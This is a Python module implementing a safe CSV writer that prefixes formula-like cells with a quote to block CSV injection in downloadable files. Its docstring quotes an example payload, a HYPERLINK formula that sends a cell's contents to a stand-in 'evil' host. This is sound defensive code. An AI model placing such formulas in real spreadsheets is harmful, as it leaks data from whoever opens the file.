"""The one CSV writer for every file the app offers for download.

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula (and a leading tab or
carriage return can hide such a start), so a customer named `=HYPERLINK("http://evil/?"&A1)` in a
download becomes a live formula on the person who opens it ("CSV injection", OWASP). Every text cell
and every header that starts with one of those characters, also after leading spaces (some
spreadsheet imports trim them), gets a single quote in front: the spreadsheet shows the text, the
quote marks that it was changed. Numbers are written as they are (`-5` as a number is harmless).

Pure Python; the only module that may create a csv writer (a test checks this).
"""
from __future__ import annotations

import csv
import io
import tempfile
from typing import IO, Any, Callable, Iterable

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISING_PREFIX = "'"
SPOOL_MAX_MEMORY_BYTES = 8 * 1024 * 1024   # larger files go to a temporary file while they are written


def neutralise(value: Any) -> Any:
    """A cell as written: text that a spreadsheet would read as a formula gets a leading quote."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_PREFIXES):
        return NEUTRALISING_PREFIX + value
    return value


class SafeCsvWriter:
    """csv.writer whose rows (header included) are neutralised cell by cell."""

    def __init__(self, out: IO[str]):
        self._writer = csv.writer(out)
        self.rows_written = 0

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(v) for v in row])
        self.rows_written += 1

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A small CSV as text (header first)."""
    buf = io.StringIO()
    writer = SafeCsvWriter(buf)
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue()


def spooled_csv(write: Callable[[SafeCsvWriter], None]) -> IO[bytes]:
    """A seekable binary file with UTF-8 CSV (with a BOM, so Excel reads the encoding right), made by
    `write(writer)`; kept in memory while small, spooled to disk when large."""
    spool = tempfile.SpooledTemporaryFile(max_size=SPOOL_MAX_MEMORY_BYTES, mode="w+b")
    text = io.TextIOWrapper(spool, encoding="utf-8-sig", newline="", write_through=True)
    write(SafeCsvWriter(text))
    text.flush()
    text.detach()
    spool.seek(0)
    return spool
